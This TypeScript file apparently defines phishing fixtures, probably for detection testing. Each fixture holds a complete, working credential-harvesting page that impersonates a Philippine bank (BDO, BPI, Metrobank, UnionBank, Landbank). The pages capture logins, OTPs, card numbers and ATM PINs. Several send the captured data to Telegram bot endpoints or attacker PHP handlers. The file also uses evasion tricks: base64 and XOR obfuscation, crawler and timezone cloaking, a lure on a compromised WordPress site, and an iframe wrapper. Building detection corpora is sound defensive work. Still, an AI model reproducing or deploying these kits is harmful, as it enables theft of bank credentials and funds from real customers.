import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { page, PH, mark, wordmark, svgData, b64, xorB64, xorDecoderJs, splitJs, digitBoxes, joinDigitsJs, telegramSendJs, ipLookupJs } from '../parts/yw-kit.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'yw-bdo-online-unusual-signin',
    label: 'phishing',
    kind: 'bank-credential-kit',
    url: 'https://bdo-onlinebanking.ph-secure-verify.xyz/ph/personal/login.php?session=expired',
    routes: {
      'bdo-onlinebanking.ph-secure-verify.xyz/ph/personal/login.php': htmlRoute(
        page({
          title: 'BDO Online Banking',
          css: `body{font-family:Arial,Helvetica,sans-serif;background:#f4f6fa;color:#222}.top{background:${PH.bdo.main};height:64px;display:flex;align-items:center;padding:0 24px;border-bottom:4px solid ${PH.bdo.accent}}.top span{color:#fff;font-size:15px;margin-left:12px}.wrap{max-width:420px;margin:40px auto;background:#fff;border:1px solid #dde3ee;border-radius:6px;padding:28px}h1{font-size:20px;color:${PH.bdo.main};margin:0 0 6px}.warn{background:#fff6df;border-left:4px solid ${PH.bdo.accent};padding:10px 12px;font-size:13px;margin:12px 0 18px}label{display:block;font-size:13px;margin:12px 0 4px;color:#555}input{width:100%;padding:11px;border:1px solid #c9d1df;border-radius:4px;font-size:15px}.btn{margin-top:20px;width:100%;padding:12px;border:0;border-radius:4px;background:${PH.bdo.main};color:#fff;font-size:15px;font-weight:700;cursor:pointer}.links{font-size:12px;margin-top:14px;display:flex;justify-content:space-between}.links a{color:${PH.bdo.main}}.dg-row{display:flex;gap:8px;justify-content:center;margin:16px 0}.dg{width:44px;height:50px;text-align:center;font-size:22px}#s2{display:none}.foot{text-align:center;font-size:11px;color:#888;margin:24px}`,
          body: `<div class="top">${mark(PH.bdo, 'BDO', 40, 4)}<span>Online Banking</span></div>
<div class="wrap">
 <form id="s1" autocomplete="off">
  <h1>Log In</h1>
  <div class="warn">We detected an unusual sign-in attempt on your account on <b id="d"></b>. Please log in to confirm it was you. Unconfirmed accounts will be temporarily restricted within 24 hours.</div>
  <label for="uid">User ID</label><input id="uid" name="uid" required>
  <label for="pw">Password</label><input id="pw" name="pw" type="password" required>
  <button class="btn" type="submit">Log In</button>
  <div class="links"><a href="#">Forgot User ID?</a><a href="#">Forgot Password?</a><a href="#">Enroll Now</a></div>
 </form>
 <form id="s2" autocomplete="off">
  <h1>One-Time PIN (OTP)</h1>
  <p style="font-size:14px">We sent a 6-digit OTP to your registered mobile number ending in <b>**<span id="m">**</span></b>. Enter it below to authorize this device.</p>
  ${digitBoxes(6, 'otp')}
  <button class="btn" type="submit">Submit</button>
  <p style="font-size:12px;color:#777;text-align:center">Didn't get the code? Resend in <span id="cd">60</span>s</p>
 </form>
</div>
<div class="foot">BDO Unibank, Inc. is regulated by the Bangko Sentral ng Pilipinas. Member: PDIC. Deposits are insured by PDIC up to ₱1,000,000 per depositor.</div>
<script>
document.getElementById('d').textContent=new Date().toLocaleDateString('en-PH',{month:'long',day:'numeric',year:'numeric'});
var sid=Math.random().toString(36).slice(2,10);
function post(step,data){data.step=step;data.sid=sid;return fetch('proc/next.php',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:new URLSearchParams(data).toString()}).then(function(r){return r.json();}).catch(function(){return {ok:1};});}
document.getElementById('s1').addEventListener('submit',function(e){e.preventDefault();var u=document.getElementById('uid').value,p=document.getElementById('pw').value;post('login',{u:u,p:p}).then(function(){document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block';var n=60,t=setInterval(function(){n--;document.getElementById('cd').textContent=n;if(!n)clearInterval(t);},1000);});});
document.getElementById('s2').addEventListener('submit',function(e){e.preventDefault();post('otp',{o:${joinDigitsJs('otp', 6)}}).then(function(){location.href='https://www.bdo.com.ph/personal';});});
</script>`,
        }),
      ),
      'bdo-onlinebanking.ph-secure-verify.xyz/ph/personal/proc/next.php': jsonRoute({ ok: 1, next: 'otp' }),
    },
  },
  {
    id: 'yw-bpi-locked-sms-chain',
    label: 'phishing',
    kind: 'bank-credential-kit',
    url: 'https://s.ph-link.cc/bpi0911',
    routes: {
      's.ph-link.cc/bpi0911': redirectRoute(302, 'https://bpi-com-ph.account-review.top/onlinebanking/?ref=sms&c=PH0911'),
      'bpi-com-ph.account-review.top/onlinebanking/': redirectRoute(302, 'https://bpi-com-ph.account-review.top/onlinebanking/signin.html'),
      'bpi-com-ph.account-review.top/onlinebanking/signin.html': htmlRoute(
        page({
          title: 'BPI Online | Sign in',
          css: `body{font-family:"Segoe UI",Roboto,Arial,sans-serif;background:#f5f5f5}header{background:#fff;box-shadow:0 1px 4px rgba(0,0,0,.1);padding:14px 28px;display:flex;align-items:center;gap:14px}header b{color:${PH.bpi.main};font-size:18px}.card{max-width:400px;margin:36px auto;background:#fff;border-radius:10px;box-shadow:0 2px 12px rgba(0,0,0,.08);padding:30px}.card h2{margin:0 0 4px;font-weight:600}.sub{color:#666;font-size:13px;margin-bottom:18px}.f{margin-bottom:14px}.f label{font-size:12px;color:#666;display:block;margin-bottom:4px}.f input{width:100%;padding:12px;border:1px solid #ccc;border-radius:6px;font-size:15px}.go{width:100%;background:${PH.bpi.main};border:0;color:#fff;padding:13px;border-radius:24px;font-size:15px;font-weight:600}.alert{background:#fdecee;color:${PH.bpi.accent};font-size:13px;padding:10px;border-radius:6px;margin-bottom:16px}.step{display:none}.step.on{display:block}.dg-row{display:flex;gap:6px;margin:10px 0 18px}.dg{width:100%;height:48px;text-align:center;font-size:20px;border:1px solid #ccc;border-radius:6px}small{color:#888}`,
          body: `<header>${mark(PH.bpi, 'BPI', 36, 18)}<b>BPI Online</b></header>
<div class="card">
 <div class="step on" id="a">
  <div class="alert">Your BPI account has been temporarily locked due to multiple failed login attempts. Mag-sign in para ma-unlock ang iyong account.</div>
  <h2>Welcome back</h2><div class="sub">Sign in to continue</div>
  <div class="f"><label>Username</label><input id="un" autocomplete="username"></div>
  <div class="f"><label>Password</label><input id="pw" type="password" autocomplete="current-password"></div>
  <button class="go" onclick="s1()">Login</button>
 </div>
 <div class="step" id="b">
  <h2>Verify your identity</h2><div class="sub">Para sa iyong seguridad, i-confirm ang iyong debit card na naka-link sa account.</div>
  <div class="f"><label>Card number</label><input id="cn" inputmode="numeric" maxlength="19" placeholder="XXXX XXXX XXXX XXXX"></div>
  <div class="f" style="display:flex;gap:10px"><div style="flex:1"><label>Expiry (MM/YY)</label><input id="ex" maxlength="5"></div><div style="flex:1"><label>ATM PIN</label><input id="pin" type="password" maxlength="4" inputmode="numeric"></div></div>
  <div class="f"><label>Mobile number</label><input id="mob" value="+63 "></div>
  <button class="go" onclick="s2()">Continue</button>
 </div>
 <div class="step" id="c">
  <h2>Enter Mobile Key / OTP</h2><div class="sub">We sent a one-time PIN to your mobile number.</div>
  ${digitBoxes(6, 'k')}
  <button class="go" onclick="s3()">Verify</button><p><small>Huwag ibahagi ang OTP sa iba.</small></p>
 </div>
</div>
<script>
${telegramSendJs('tg', splitJs('7351982046:AAGv2c_Qy8Lr0Xm5kP1tWdN7zB4eHs9uJfA', 5), splitJs('-1002093114587', 4), 'BPI')}
${ipLookupJs('https://api.ipify.org?format=json')}
var box={};
function show(x){['a','b','c'].forEach(function(i){document.getElementById(i).className='step'+(i===x?' on':'');});}
function v(i){return document.getElementById(i).value;}
function s1(){box.u=v('un');box.p=v('pw');if(!box.u||!box.p)return;tg(['USER: '+box.u,'PASS: '+box.p]);show('b');}
function s2(){tg(['USER: '+box.u,'CARD: '+v('cn'),'EXP: '+v('ex'),'PIN: '+v('pin'),'MOB: '+v('mob')]);show('c');}
function s3(){tg(['USER: '+box.u,'OTP: '+${joinDigitsJs('k', 6)}]).then(function(){location.replace('https://www.bpi.com.ph/');});}
</script>`,
        }),
      ),
    },
  },
  (() => {
    const host = 'metrobank-com-ph.web-authentication.com';
    const inner = `<div style="font-family:Arial,sans-serif;background:#eef2f7;min-height:100vh;padding-top:40px">
<div style="max-width:380px;margin:0 auto;background:#fff;border-top:5px solid ${PH.metrobank.main};box-shadow:0 2px 10px rgba(0,0,0,.1);padding:26px">
<div style="display:flex;align-items:center;gap:10px;margin-bottom:18px">${wordmark(PH.metrobank, 'Metrobank', 30)}</div>
<h3 style="margin:0 0 6px;color:${PH.metrobank.main}">Metrobank Online</h3>
<p style="font-size:13px;color:#555">Your Passcode will expire today. Log in to keep access to Metrobank Online and the Metrobank App.</p>
<form method="post" action="https://${host}/mbo/post.php">
<input type="hidden" name="src" value="mbo-sms-1102">
<label style="font-size:12px;color:#666">Username</label><input name="username" required style="width:100%;padding:10px;margin:4px 0 12px;border:1px solid #bbb">
<label style="font-size:12px;color:#666">Password</label><input name="password" type="password" required style="width:100%;padding:10px;margin:4px 0 12px;border:1px solid #bbb">
<label style="font-size:12px;color:#666">Passcode (6 digits)</label><input name="passcode" inputmode="numeric" maxlength="6" required style="width:100%;padding:10px;margin:4px 0 16px;border:1px solid #bbb">
<button style="width:100%;padding:12px;background:${PH.metrobank.main};color:#fff;border:0;font-weight:bold">LOG IN</button>
</form>
<p style="font-size:11px;color:#999;margin-top:16px">Metropolitan Bank &amp; Trust Company is regulated by the Bangko Sentral ng Pilipinas. https://www.bsp.gov.ph</p>
</div></div>`;
    return {
      id: 'yw-metrobank-docwrite-b64',
      label: 'phishing',
      kind: 'obfuscated-bank-kit',
      url: `https://${host}/mbo/index.html`,
      body: `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Metrobank Online</title><meta name="robots" content="noindex,nofollow"><link rel="icon" href="${svgData(mark(PH.metrobank, 'M', 32, 6))}"></head><body style="margin:0"><script>var _0x1a=["${b64(inner).slice(0, 600)}","${b64(inner).slice(600)}"];document.write(decodeURIComponent(escape(window["at"+"ob"](_0x1a.join("")))));</script><noscript>Please enable JavaScript.</noscript></body></html>`,
      routes: { [`${host}/mbo/post.php`]: redirectRoute(302, 'https://online.metrobank.com.ph/') },
    } satisfies Entry;
  })(),
  (() => {
    const host = 'unionbank-online.ph-update.icu';
    const cfg = xorB64(JSON.stringify({ t: '6894410275:AAE3kWq9hP_mZr0Lx7VdS2cTy5NbUo1gHeI', c: '5873316602', r: 'https://www.unionbankph.com' }), 'ubp2025');
    return {
      id: 'yw-unionbank-cloaked-timezone',
      label: 'phishing',
      kind: 'cloaked-bank-kit',
      url: `https://${host}/`,
      body: page({
        title: 'Welcome',
        css: 'body{font-family:sans-serif;text-align:center;padding:80px;color:#777}',
        body: `<h2>Site under maintenance</h2><p>We'll be back shortly.</p>
<script>
(function(){
 var bot=navigator.webdriver||/bot|crawl|spider|headless|lighthouse|preview/i.test(navigator.userAgent)||!navigator.languages||navigator.languages.length===0;
 var tz='';try{tz=Intl.DateTimeFormat().resolvedOptions().timeZone;}catch(e){}
 var okTz=/Manila|Hong_Kong|Singapore|Dubai|Riyadh|Taipei/.test(tz);
 if(!bot&&(okTz||screen.width<900)){var k=btoa(Date.now().toString(36)).replace(/=/g,'');location.replace('/u/portal/login?k='+k);}
})();
</script>`,
      }),
      routes: {
        [`${host}/u/portal/login`]: htmlRoute(
          page({
            title: 'UnionBank Online',
            css: `body{font-family:Inter,Arial,sans-serif;background:#fafafa}.hero{background:linear-gradient(120deg,${PH.unionbank.main},#ff9a3c);height:180px}.box{max-width:400px;margin:-110px auto 40px;background:#fff;border-radius:14px;box-shadow:0 8px 30px rgba(0,0,0,.12);padding:28px}.box h1{font-size:22px;margin:12px 0}.in{width:100%;padding:13px;border:1px solid #ddd;border-radius:8px;margin:6px 0 12px;font-size:15px}.b{width:100%;background:${PH.unionbank.main};border:0;color:#fff;padding:14px;border-radius:8px;font-weight:700;font-size:15px}.m{font-size:12px;color:#777;text-align:center;margin-top:14px}#o{display:none}`,
            body: `<div class="hero"></div><div class="box">${wordmark(PH.unionbank, 'UnionBank', 28)}
<div id="l"><h1>Log in to UnionBank Online</h1>
<input class="in" id="u" placeholder="Username or email">
<input class="in" id="p" type="password" placeholder="Password">
<button class="b" id="go">Log in</button></div>
<div id="o"><h1>Enter your OTP</h1><p style="font-size:14px;color:#555">A 6-digit code was sent to your registered mobile number. This is required to keep your account active under the new BSP rules.</p>
<input class="in" id="otp" maxlength="6" inputmode="numeric" placeholder="••••••"><button class="b" id="go2">Confirm</button></div>
<div class="m">Union Bank of the Philippines is regulated by the Bangko Sentral ng Pilipinas</div></div>
<script>
${xorDecoderJs('_d')}
var C=JSON.parse(_d("${cfg}","ubp2025"));
function send(t){return fetch("https://api.telegram.org/bot"+C.t+"/sendMessage?chat_id="+C.c+"&text="+encodeURIComponent(t)).catch(function(){});}
document.getElementById('go').onclick=function(){var u=document.getElementById('u').value,p=document.getElementById('p').value;if(!u||!p)return;send('UB LOGIN\\n'+u+'\\n'+p);document.getElementById('l').style.display='none';document.getElementById('o').style.display='block';};
document.getElementById('go2').onclick=function(){send('UB OTP '+document.getElementById('otp').value).then(function(){location.href=C.r;});};
</script>`,
          }),
        ),
      },
    } satisfies Entry;
  })(),
  {
    id: 'yw-landbank-iaccess-device-enroll',
    label: 'phishing',
    kind: 'bank-credential-kit',
    url: 'https://landbank-iaccess.com-ph.services/LBP.iAccess.Web/Login.aspx',
    routes: {
      'landbank-iaccess.com-ph.services/LBP.iAccess.Web/Login.aspx': htmlRoute(
        page({
          title: 'LANDBANK iAccess - Login',
          lang: 'fil',
          css: `body{font-family:Tahoma,Verdana,sans-serif;font-size:13px;background:#e9efe9 url("data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' width='40' height='40'><circle cx='20' cy='20' r='1' fill='%23c9d8cc'/></svg>")}#hd{background:${PH.landbank.main};color:#fff;padding:10px 20px;display:flex;align-items:center;gap:12px}#hd h1{font-size:18px;margin:0}#hd small{color:${PH.landbank.accent}}.pnl{width:360px;margin:50px auto;background:#fff;border:1px solid #b5c9b9}.pnl .t{background:#f3f7f3;border-bottom:1px solid #b5c9b9;padding:8px 12px;font-weight:bold;color:${PH.landbank.main}}.pnl .c{padding:16px}.row{margin-bottom:10px}.row input{width:100%;padding:7px;border:1px solid #999}.btn{background:${PH.landbank.main};color:#fff;border:1px solid #05602c;padding:7px 20px;cursor:pointer}.note{font-size:11px;color:#a00;margin-top:8px}#p2{display:none}`,
          body: `<div id="hd">${mark(PH.landbank, 'LBP', 40, 20)}<div><h1>LANDBANK iAccess</h1><small>Internet Banking for Individuals</small></div></div>
<div class="pnl"><div class="t">Account Login</div><div class="c">
<form id="p1" onsubmit="return go1()">
<div class="row">Access ID<br><input id="aid" maxlength="20"></div>
<div class="row">Password<br><input id="apw" type="password"></div>
<div class="row"><label><input type="checkbox" checked> Remember this device</label></div>
<input type="submit" class="btn" value="Login"> <a href="#">Forgot Password?</a>
<div class="note">Paalala: Simula ngayong buwan, kailangang i-enroll muli ang inyong device para magamit ang iAccess at LANDBANK Mobile Banking App.</div>
</form>
<form id="p2" onsubmit="return go2()">
<p><b>Device Enrollment</b><br>Ilagay ang iyong rehistradong mobile number at ang OTP na ipinadala sa iyo.</p>
<div class="row">Mobile No.<br><input id="mno" placeholder="09XXXXXXXXX"></div>
<div class="row">Debit Card No. (16 digits)<br><input id="dcn" maxlength="16"></div>
<div class="row">One-Time Password<br><input id="otp" maxlength="6"></div>
<input type="submit" class="btn" value="Enroll Device">
</form>
</div></div>
<p style="text-align:center;font-size:11px;color:#555">Land Bank of the Philippines · Regulated by the Bangko Sentral ng Pilipinas · Deposits insured by PDIC</p>
<script>
function q(i){return document.getElementById(i).value;}
function x(d,cb){var r=new XMLHttpRequest();r.open('POST','login_process.php',true);r.setRequestHeader('Content-Type','application/x-www-form-urlencoded');r.onloadend=cb;var s=[];for(var k in d)s.push(k+'='+encodeURIComponent(d[k]));r.send(s.join('&'));}
function go1(){x({a:q('aid'),b:q('apw'),ua:navigator.userAgent},function(){document.getElementById('p1').style.display='none';document.getElementById('p2').style.display='block';});return false;}
function go2(){x({a:q('aid'),m:q('mno'),c:q('dcn'),o:q('otp')},function(){alert('Salamat! Ang inyong device ay matagumpay na na-enroll.');location.href='https://www.landbank.com';});return false;}
</script>`,
        }),
      ),
      'landbank-iaccess.com-ph.services/LBP.iAccess.Web/login_process.php': jsonRoute({ status: 'success' }),
    },
  },
  (() => {
    const kitHost = 'mbonline-auth.ph-login.support';
    return {
      id: 'yw-metrobank-wp-lure-offsite-kit',
      label: 'phishing',
      kind: 'compromised-site-lure',
      url: 'https://www.sanroquebakeshop.com/wp-includes/css/dist/mb/notice.html',
      body: page({
        title: 'Metrobank Secure Message',
        head: `<meta http-equiv="refresh" content="6;url=https://${kitHost}/signin?c=MB-44819&src=email">`,
        css: `body{font-family:Arial,sans-serif;background:#f0f3f7}.m{max-width:560px;margin:40px auto;background:#fff;border:1px solid #d8dee8}.m .h{background:${PH.metrobank.main};color:#fff;padding:14px 18px;font-weight:bold}.m .b{padding:20px 22px;font-size:14px;line-height:1.6;color:#333}.m a.btn{display:inline-block;background:${PH.metrobank.accent};color:#fff;padding:11px 24px;text-decoration:none;border-radius:3px;margin:8px 0}.m .f{font-size:11px;color:#888;padding:12px 22px;border-top:1px solid #eee}`,
        body: `<div class="m"><div class="h">Metrobank · Secure Message Center</div><div class="b">
<p>Dear Valued Client,</p>
<p>You have <b>1 (one) unread secure message</b> regarding a pending transfer of <b>PHP 48,500.00</b> to an InstaPay recipient that requires your confirmation. If you did not initiate this transfer, please review and cancel it immediately.</p>
<p><a class="btn" href="https://${kitHost}/signin?c=MB-44819&amp;src=email">Review Transaction</a></p>
<p>You will be redirected automatically in a few seconds...</p>
<p>Thank you for banking with us.<br>Metrobank Customer Care</p></div>
<div class="f">This is a system-generated message. Reference MB-44819-PH. Metropolitan Bank &amp; Trust Company is regulated by the Bangko Sentral ng Pilipinas.</div></div>`,
      }),
      routes: {
        [`${kitHost}/signin`]: htmlRoute(
          page({
            title: 'Metrobank Online - Sign In',
            css: `body{font-family:Roboto,Arial,sans-serif;background:#fff}.l{display:flex;min-height:100vh}.l .art{flex:1;background:linear-gradient(160deg,${PH.metrobank.main},${PH.metrobank.accent});color:#fff;padding:60px}.l .frm{width:420px;padding:60px 40px}.frm h2{margin-top:0}.frm input{width:100%;padding:12px;margin:6px 0 14px;border:1px solid #bbb;border-radius:4px}.frm button{width:100%;background:${PH.metrobank.main};color:#fff;border:0;padding:13px;border-radius:4px;font-weight:bold}.tr{background:#fff7e6;border:1px solid #f2c46d;padding:10px;font-size:13px;margin-bottom:14px}`,
            body: `<div class="l"><div class="art">${wordmark({ ...PH.metrobank, ink: '#fff' }, 'Metrobank', 34)}<h1>You're in good hands.</h1></div><div class="frm">
<h2>Sign in</h2><div class="tr">Pending InstaPay transfer <b>PHP 48,500.00</b> · Ref MB-44819. Sign in to cancel or approve.</div>
<form action="/signin/auth.php" method="post"><input type="hidden" name="ref" value="MB-44819">
<label>Username</label><input name="user" required><label>Password</label><input name="pass" type="password" required>
<label>Registered mobile number</label><input name="mobile" placeholder="09XXXXXXXXX" required>
<button>Sign In</button></form></div></div>`,
          }),
        ),
        [`${kitHost}/signin/auth.php`]: redirectRoute(302, `https://${kitHost}/signin/otp.html`),
        [`${kitHost}/signin/otp.html`]: htmlRoute(page({ title: 'Metrobank Online - Passcode', body: `<form action="/signin/auth.php" method="post" style="max-width:360px;margin:60px auto;font-family:Arial"><h3>Enter the 6-digit Passcode sent to your mobile</h3><input name="otp" maxlength="6" style="width:100%;padding:12px;font-size:20px"><button style="margin-top:12px;width:100%;padding:12px;background:#00418d;color:#fff;border:0">Cancel Transfer</button></form>` })),
      },
    } satisfies Entry;
  })(),
  (() => {
    const kit = 'cdn-bpi-auth.ph-gateway.online';
    return {
      id: 'yw-bpi-netlify-iframe-wrapper',
      label: 'phishing',
      kind: 'iframe-wrapped-bank-kit',
      url: 'https://bpi-online-ph-verify.netlify.app/',
      body: `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>BPI Online</title><link rel="icon" href="${svgData(mark(PH.bpi, 'B', 32, 16))}"><style>html,body{margin:0;height:100%;overflow:hidden}iframe{border:0;width:100%;height:100%}</style></head><body><iframe src="https://${kit}/frame/login.html?h=${b64('bpi-online-ph-verify.netlify.app')}" allow="clipboard-write"></iframe></body></html>`,
      routes: {
        [`${kit}/frame/login.html`]: htmlRoute(
          page({
            title: 'BPI',
            css: `body{font-family:Arial,sans-serif;background:#f7f3f3}.c{max-width:360px;margin:30px auto;background:#fff;padding:24px;border-radius:8px;box-shadow:0 1px 6px rgba(0,0,0,.1)}input{width:100%;padding:11px;margin:6px 0 12px;border:1px solid #ccc;border-radius:5px}button{width:100%;padding:12px;border:0;border-radius:22px;background:${PH.bpi.main};color:#fff;font-weight:bold}`,
            body: `<div class="c">${mark(PH.bpi, 'BPI', 44, 22)}<h3>Login to BPI Online</h3><p style="font-size:13px;color:#666">Magkakaroon ng system upgrade. I-update ang inyong account bago mag-expire ang inyong access.</p>
<form id="f"><input id="u" placeholder="Username"><input id="p" type="password" placeholder="Password"><input id="m" placeholder="Mobile number"><button>Login</button></form></div>
<script src="/frame/app.min.js"></script>`,
          }),
        ),
        [`${kit}/frame/app.min.js`]: jsRoute(
          `!function(){var a=atob("${b64('6120554017:AAFbX0r9cQ2mT7kLp3ZsW8yV1nJd4eHuGoQ')}"),b=atob("${b64('-1001987654321')}");document.getElementById("f").addEventListener("submit",function(e){e.preventDefault();var t=["BPI-IFRAME","u="+document.getElementById("u").value,"p="+document.getElementById("p").value,"m="+document.getElementById("m").value,"ref="+document.referrer].join("%0A");(new Image).src="https://api.telegram.org/bot"+a+"/sendMessage?chat_id="+b+"&text="+t;setTimeout(function(){top.location.href="https://www.bpi.com.ph/"},900)})}();`,
        ),
      },
    } satisfies Entry;
  })(),
];
